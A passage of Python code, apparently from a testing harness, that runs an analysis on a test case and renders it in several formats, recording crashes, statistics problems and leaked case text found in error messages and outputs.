        analysis, message = analyse(case)
    except Exception as error:  # the invariant under test: nothing but ExperimentError escapes
        outcome.add("crash", [f"analyze: {type(error).__name__}: {error}"[:500]])
        return outcome
    if analysis is None:
        outcome.add("leak", error_problems(message or ""))
        return outcome
    outcome.analysed = True
    outcome.add("statistics", statistics_problems(analysis) + column_problems(case, analysis))
    for fmt in formats:
        try:
            output = render(fmt, analysis)
        except Exception as error:
            outcome.add("crash", [f"{fmt}: {type(error).__name__}: {error}"[:500]])
            continue
        try:
            outcome.add("leak", output_problems(fmt, output, case.texts, analysis))
        except Exception as error:
            outcome.add("crash", [f"{fmt} output check: {type(error).__name__}: {error}"[:500]])
    return outcome
